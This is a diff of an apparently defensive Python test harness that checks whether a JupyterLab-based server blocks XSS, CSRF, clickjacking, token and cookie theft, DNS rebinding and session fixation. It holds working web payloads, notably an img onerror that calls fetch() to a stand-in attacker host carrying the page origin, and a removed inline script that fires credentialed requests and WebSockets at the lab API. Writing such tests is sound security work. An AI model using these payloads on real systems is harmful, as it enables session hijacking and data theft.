@@ -16,8 +16,6 @@ import http.server
 import json
 import os
 import pathlib
-import re
-import subprocess
 import sys
 import tempfile
 import threading
@@ -128,30 +126,53 @@ def open_notebook(trial):
         shown = cells.count()
         pressed = page.evaluate(
             """() => { let n = 0; for (const e of document.querySelectorAll('.jp-Notebook .hostile, .jp-Notebook a, '
-               + '.jp-Notebook button.hostile')) { if (/^https?:/.test(e.href || '')) continue; e.click(); n++ } return n }"""
+               + '.jp-Notebook button.hostile')) { if (!/^https?:/.test(e.href || '')) { e.click(); n++ } }
+               return n }"""
         )
         page.wait_for_timeout(SETTLE_MS)
         pwned, where = page.evaluate("top.pwned"), page.url
     own, _ = trial.scripts()
-    trial.note(f"scripts in outputs, Markdown, attachments, metadata and forms of a notebook that is opened "
-               f"({shown} cells, {len(attacks.outputs(''))} kinds of outputs, {pressed} links pressed)",
-               not own and pwned is None and shown > 10, f"ran with the page's rights: {', '.join(own) or 'none'}")
-    trial.note("such outputs start terminals by JupyterLab's command links, submit forms or move the page",
-               trial.state()[1:] >= before[1:] and trial.state()[2] == before[2] and where.startswith(trial.url)
-               and not trial.evil.take("/form") and not trial.evil.take("/moved"), "nothing happened")
+    trial.note(
+        f"scripts in outputs, Markdown, attachments, metadata and forms of a notebook that is opened "
+        f"({shown} cells, {len(attacks.outputs(''))} kinds of outputs, {pressed} links pressed)",
+        not own and pwned is None and shown > 10,
+        f"ran with the page's rights: {', '.join(own) or 'none'}",
+    )
+    trial.note(
+        "such outputs start terminals by JupyterLab's command links, submit forms or move the page",
+        trial.state()[1:] >= before[1:]
+        and trial.state()[2] == before[2]
+        and where.startswith(trial.url)
+        and not trial.evil.take("/form")
+        and not trial.evil.take("/moved"),
+        "nothing happened",
+    )
     styles = trial.evil.take("/style")
     trial.note("they load style sheets of the attacker", not styles, "not loaded" if not styles else str(styles[0][0]))
     referers = [headers.get("Referer") for _, headers in trial.evil.take("/pixel")]
-    trial.note("a picture of another site in Markdown learns the page's address", referers and not any(referers),
-               "the picture is loaded, as in stock JupyterLab; the request has no `Referer` and no cookie")
+    trial.note(
+        "a picture of another site in Markdown learns the page's address",
+        referers and not any(referers),
+        "the picture is loaded, as in stock JupyterLab; the request has no `Referer` and no cookie",
+    )
 
 
 def trusted_notebook(trial):
     """A script of an output that the user trusts: it shows that the attempts before would have been noticed."""
     for name, is_trusted in (("untrusted", False), ("trusted", True)):
-        output = {"output_type": "display_data", "metadata": {},
-                  "data": {"text/html": f"<img src=x onerror=\"{attacks.script(name, trial.evil.url())}\">"}}
-        cell = {"cell_type": "code", "id": "a", "execution_count": 1, "metadata": {}, "source": name, "outputs": [output]}
+        output = {
+            "output_type": "display_data",
+            "metadata": {},
+            "data": {"text/html": f'<img src=x onerror="{attacks.script(name, trial.evil.url())}">'},
+        }
+        cell = {
+            "cell_type": "code",
+            "id": "a",
+            "execution_count": 1,
+            "metadata": {},
+            "source": name,
+            "outputs": [output],
+        }
         content = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
         (trial.drive / f"{name}.ipynb").write_text(json.dumps(content))
         if is_trusted:
@@ -160,8 +181,11 @@ def trusted_notebook(trial):
             page.wait_for_selector(".jp-Notebook .jp-OutputArea-child", state="attached", timeout=60_000)
             page.wait_for_timeout(3000)
     own, _ = trial.scripts()
-    trial.note("for comparison, a script of a notebook that the user has trusted", own == ["trusted"],
-               "it runs with the page's rights, as in stock JupyterLab")
+    trial.note(
+        "for comparison, a script of a notebook that the user has trusted",
+        own == ["trusted"],
+        "it runs with the page's rights, as in stock JupyterLab",
+    )
 
 
 def hostile_names(trial):
@@ -176,7 +200,8 @@ def hostile_names(trial):
 
 def name_of(evil):
     """The name of such a file."""
-    return f"<img src=x onerror=fetch('{evil.url()[:-1].replace('/', '&sol;')}&sol;ran?name=filename&origin='+self.origin)>.txt"
+    address = evil.url()[:-1].replace("/", "&sol;")
+    return f"<img src=x onerror=fetch('{address}&sol;ran?name=filename&origin='+self.origin)>.txt"
 
 
 def files(trial):
@@ -188,21 +213,30 @@ def files(trial):
             with trial.page(f"{trial.url}{folder}{name}"):
                 pass
             own, other = trial.scripts()
-            did = sorted({seen["what"] for seen, _ in trial.evil.take("/did") if seen["result"] not in ("refused", "0")})
+            did = sorted(
+                {seen["what"] for seen, _ in trial.evil.take("/did") if seen["result"] not in ("refused", "0")}
+            )
             how = f"{other} ran, without an origin" if other else "none ran"
-            trial.note(f"`/{folder}{name}` with scripts that read cookies, the interface, `localStorage` and a terminal",
-                       not own and not did and trial.state() == before, f"{how}; they got {', '.join(did) or 'nothing'}")
+            trial.note(
+                f"`/{folder}{name}` with scripts that read cookies, the interface, `localStorage` and a terminal",
+                not own and not did and trial.state() == before,
+                f"{how}; they got {', '.join(did) or 'nothing'}",
+            )
     with trial.page(f"{trial.url}nbconvert/html/exported.ipynb"):
         pass
     own, other = trial.scripts()
     trial.note("`/nbconvert/html` of the notebook's outputs", not own and other > 0, f"{other} ran, without an origin")
     for factory in ("HTML Viewer", "Markdown Preview", "Image", "CSVTable"):
-        name = {"HTML Viewer": "page.html", "Markdown Preview": "page.md", "Image": "page.svg", "CSVTable": "page.csv"}[factory]
+        name = {"HTML Viewer": "page.html", "Markdown Preview": "page.md", "Image": "page.svg", "CSVTable": "page.csv"}[
+            factory
+        ]
         with trial.page(f"{trial.url}doc/tree/{name}?factory={urllib.parse.quote(factory)}") as page:
             page.wait_for_timeout(2500)
             pwned = page.evaluate("top.pwned")
         own, _ = trial.scripts()
-        trial.note(f"`{name}` in JupyterLab's {factory}", not own and pwned is None, "no script ran with the page's rights")
+        trial.note(
+            f"`{name}` in JupyterLab's {factory}", not own and pwned is None, "no script ran with the page's rights"
+        )
 
 
 def foreign_pages(trial):
@@ -211,68 +245,60 @@ def foreign_pages(trial):
     for host, where in (("evil.test", "another site"), ("127.0.0.1", "another port of the host")):
         before = trial.state()
         base = trial.evil.url(host)
-        body = json.dumps({"type": "directory"})
-        forms = "".join(
-            f"<form method=post enctype=text/plain action='{lab}{path}' target=f{at}><input name='{body[:-1]}, \"x\":\"' "
-            f"value='\"}}'></form><iframe name=f{at}></iframe>"
-            for at, path in enumerate(("api/contents", "api/kernels", "api/terminals", "api/sessions", "logout"))
-        )
-        trial.evil.pages["/attack"] = f"""<!doctype html><body>{forms}<script>
-const say = (what, result) => fetch('{base}did?' + new URLSearchParams({{what, result}}));
-for (const form of document.forms) form.submit();
-for (const [method, path] of [['PUT', 'api/contents/made'], ['DELETE', 'api/contents/page.html'], ['PATCH', 'api/contents/page.html']])
-  fetch('{lab}' + path, {{method, credentials: 'include', body: '{body}'}}).then(() => say(method, 'done'), () => say(method, 'refused'));
-for (const path of ['api/contents', 'api/kernels', 'api/terminals'])
-  fetch('{lab}' + path, {{method: 'POST', mode: 'no-cors', credentials: 'include', body: '{body}'}});
-fetch('{lab}api/contents', {{credentials: 'include'}}).then((a) => say('reads', a.status), () => say('reads', 'refused'));
-fetch('{lab}files/page.html', {{credentials: 'include'}}).then((a) => say('reads', a.status), () => say('reads', 'refused'));
-for (const [tag, path] of [['script', 'files/secret.js'], ['img', 'files/pixel.svg'], ['img', 'logout']]) {{
-  const element = document.createElement(tag);
-  element.onload = () => say(tag + ' of /' + path, 'loaded ' + (self.secret || ''));
-  element.onerror = () => say(tag + ' of /' + path, 'refused');
-  element.src = '{lab}' + path; document.body.append(element);
-}}
-for (const path of ['terminals/websocket/1', 'api/events/subscribe', 'api/kernels/{trial.kernel}/channels']) {{
-  const socket = new WebSocket('{lab.replace("http", "ws", 1)}' + path);
-  socket.onopen = () => say('WebSocket', 'opened'); socket.onerror = () => say('WebSocket', 'refused');
-}}
-const frame = document.createElement('iframe');
-frame.src = '{lab}lab'; document.body.append(frame);
-setTimeout(() => {{ let seen = 'refused'; try {{ seen = frame.contentDocument.body.innerHTML.length }} catch (e) {{}} say('reads a frame', seen) }}, 900);
-const opened = window.open('{lab}lab');
-setTimeout(() => {{ let seen = 'refused'; try {{ seen = opened.document.cookie }} catch (e) {{}} say('reads a window', seen); opened.close() }}, 900);
-</script>"""
+        script = attacks.module("hostile_foreign.js", EVIL=base, LAB=lab, KERNEL=trial.kernel)
+        trial.evil.pages["/attack"] = f"<!doctype html><meta charset=utf-8><body><script>{script}</script>"
         with trial.page(f"{base}attack") as page:
             page.wait_for_timeout(1500)
             framed = [frame.url for frame in page.frames if frame.url.startswith(lab + "lab")]
         did = [seen for seen, _ in trial.evil.take("/did")]
         got = sorted({f"{seen['what']}: {seen['result']}" for seen in did if seen["result"] != "refused"})
         loaded = [seen for seen in got if "loaded" in seen and "files" in seen]
-        trial.note(f"a page of {where} sends forms and requests that change something",
-                   trial.state() == before, "nothing was changed")
-        trial.note(f"a page of {where} reads answers, frames, windows", not [seen for seen in got if seen.startswith("reads")],
-                   "refused")
-        trial.note(f"a page of {where} includes files of the drive as scripts and pictures", not loaded,
-                   ", ".join(loaded) or "refused")
-        trial.note(f"a page of {where} opens WebSockets of terminals, kernels and events",
-                   "WebSocket: opened" not in got and any(seen["what"] == "WebSocket" for seen in did), "refused")
-        trial.note(f"a page of {where} shows the laboratory in a frame (clickjacking)", not framed, "the browser refuses")
+        trial.note(
+            f"a page of {where} sends forms and requests that change something",
+            trial.state() == before,
+            "nothing was changed",
+        )
+        trial.note(
+            f"a page of {where} reads answers, frames, windows",
+            not [seen for seen in got if seen.startswith("reads")],
+            "refused",
+        )
+        trial.note(
+            f"a page of {where} includes files of the drive as scripts and pictures",
+            not loaded,
+            ", ".join(loaded) or "refused",
+        )
+        trial.note(
+            f"a page of {where} opens WebSockets of terminals, kernels and events",
+            "WebSocket: opened" not in got and any(seen["what"] == "WebSocket" for seen in did),
+            "refused",
+        )
+        trial.note(
+            f"a page of {where} shows the laboratory in a frame (clickjacking)", not framed, "the browser refuses"
+        )
         with trial.page(f"{trial.url}lab") as page:
             is_out = "/login" in page.url
-            trial.note(f"a page of {where} logs the user out", not is_out, "logged out" if is_out else "still logged in")
+            trial.note(
+                f"a page of {where} logs the user out", not is_out, "logged out" if is_out else "still logged in"
+            )
 
 
 def theft(trial):
     """The token, the cookies and what the browser stores."""
     with trial.page(f"{trial.url}lab") as page:
         page.wait_for_timeout(2500)
-        stored = page.evaluate("JSON.stringify([localStorage, sessionStorage, document.cookie, document.body.innerHTML])")
+        stored = page.evaluate(
+            "JSON.stringify([localStorage, sessionStorage, document.cookie, document.body.innerHTML])"
+        )
         history = page.evaluate("location.href")
     cookies = {cookie["name"]: cookie for cookie in trial.context.cookies(trial.url)}
     session = next(cookie for name, cookie in cookies.items() if name.startswith("labora-lab"))
     holds = trial.token not in stored + history and session["value"] not in stored
-    trial.note("a script of the page reads the token or the session's cookie", holds and session["httpOnly"],
-               "the page has neither: the token is not in it, and the cookie is `HttpOnly`")
+    trial.note(
+        "a script of the page reads the token or the session's cookie",
+        holds and session["httpOnly"],
+        "the page has neither: the token is not in it, and the cookie is `HttpOnly`",
+    )
     trial.note("the address that lets in is used a second time", "/login" in used_twice(trial), "asked for the token")
     trial.evil.take("/")
     with trial.page(f"{trial.url}files/link.html"):
@@ -282,10 +308,15 @@ def theft(trial):
     with trial.page(trial.evil.url("127.0.0.1")):
         pass
     sent = [headers.get("Cookie", "") for _, headers in trial.evil.take("/")]
-    trial.rows.append(("a server on another port of the same host is sent the session's cookie",
-                       "**not prevented**: browsers do not tell ports apart. With TLS the cookie is `Secure`, and servers "
-                       "without a certificate of that host get none" if any(session["value"] in one for one in sent)
-                       else "not sent"))
+    trial.rows.append(
+        (
+            "a server on another port of the same host is sent the session's cookie",
+            "**not prevented**: browsers do not tell ports apart. With TLS the cookie is `Secure`, and servers "
+            "without a certificate of that host get none"
+            if any(session["value"] in one for one in sent)
+            else "not sent",
+        )
+    )
 
 
 def used_twice(trial):
@@ -303,8 +334,11 @@ def hosts_and_sessions(trial):
     port = urllib.parse.urlparse(trial.url).port
     with trial.page(f"http://rebound.test:{port}/lab") as page:
         text = page.text_content("body")
-    trial.note("a name of the attacker that is rebound to the laboratory's address (DNS rebinding)",
-               "not this server" in text, "status 403")
+    trial.note(
+        "a name of the attacker that is rebound to the laboratory's address (DNS rebinding)",
+        "not this server" in text,
+        "status 403",
+    )
     context = trial.context.browser.new_context()
     name = f"labora-lab-{port}"
     context.add_cookies([{"name": one, "value": "chosen", "url": trial.url} for one in (name, "_xsrf")])
@@ -314,12 +348,18 @@ def hosts_and_sessions(trial):
     page.click("button")
     page.wait_for_timeout(SETTLE_MS)
     values = {cookie["name"]: cookie["value"] for cookie in context.cookies(trial.url)}
-    trial.note("a cookie that was planted before the login (session fixation)",
-               "chosen" not in (values[name], values["_xsrf"]), "the login makes new ones")
-    trial.note("the login leads to another site (`next=//evil.test`)", page.url.startswith(trial.url), "leads to `/lab`")
+    trial.note(
+        "a cookie that was planted before the login (session fixation)",
+        "chosen" not in (values[name], values["_xsrf"]),
+        "the login makes new ones",
+    )
+    trial.note(
+        "the login leads to another site (`next=//evil.test`)", page.url.startswith(trial.url), "leads to `/lab`"
+    )
     context.add_cookies([{"name": "_xsrf", "value": "chosen", "url": trial.url}])
     status = page.evaluate(
-        "fetch('/api/kernels', {method: 'POST', headers: {'X-XSRFToken': 'chosen'}, body: '{}'}).then((a) => a.status)")
+        "fetch('/api/kernels', {method: 'POST', headers: {'X-XSRFToken': 'chosen'}, body: '{}'}).then((a) => a.status)"
+    )
     trial.note("an XSRF cookie that was planted after the login", status == 403, "status 403")
     context.close()
 
@@ -330,14 +370,21 @@ def write_files(drive, evil, server):
     (drive / "exported.ipynb").write_text(json.dumps(attacks.exported(evil.url())))
     (drive / "page.html").write_text(attacks.page("page", evil.url(), server))
     (drive / "page.xhtml").write_text(
-        f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>//<![CDATA[\n{attacks.script("xhtml", evil.url())}\n//]]>'
-        "</script></body></html>")
+        '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>//<![CDATA[\n'
+        f"{attacks.script('xhtml', evil.url())}\n//]]>"
+        "</script></body></html>"
+    )
     (drive / "page.xml").write_text(
         f'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{attacks.script("xml", evil.url())}'
-        "</x:script>".replace("&", "&amp;"))
-    (drive / "page.svg").write_text(attacks.svg("svg-file", evil.url()).replace("=> {", "=&gt; {").replace("() =>", "() =&gt;"))
+        "</x:script>".replace("&", "&amp;")
+    )
+    (drive / "page.svg").write_text(
+        attacks.svg("svg-file", evil.url()).replace("=> {", "=&gt; {").replace("() =>", "() =&gt;")
+    )
     (drive / "page.md").write_text(attacks.handlers("markdown-file", evil.url()))
-    (drive / "page.csv").write_text("a,b\n" + attacks.handlers("csv", evil.url()).replace("\n", " ").replace('"', "'") + ",2\n")
+    (drive / "page.csv").write_text(
+        "a,b\n" + attacks.handlers("csv", evil.url()).replace("\n", " ").replace('"', "'") + ",2\n"
+    )
     (drive / "secret.js").write_text("self.secret = 'read'")
     (drive / "pixel.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')
     (drive / "link.html").write_text(f'<img src="{evil.url()}leak">')
@@ -364,7 +411,15 @@ def main():
             trial.kernel = trial.call("POST", "api/kernels", {"name": "python3"})["id"]
             with trial.page(said["login_url"]) as page:
                 assert "/lab" in page.url, page.url
-            for attempt in (open_notebook, hostile_names, files, foreign_pages, theft, hosts_and_sessions, trusted_notebook):
+            for attempt in (
+                open_notebook,
+                hostile_names,
+                files,
+                foreign_pages,
+                theft,
+                hosts_and_sessions,
+                trusted_notebook,
+            ):
                 attempt(trial)
             version = browser.version
             browser.close()
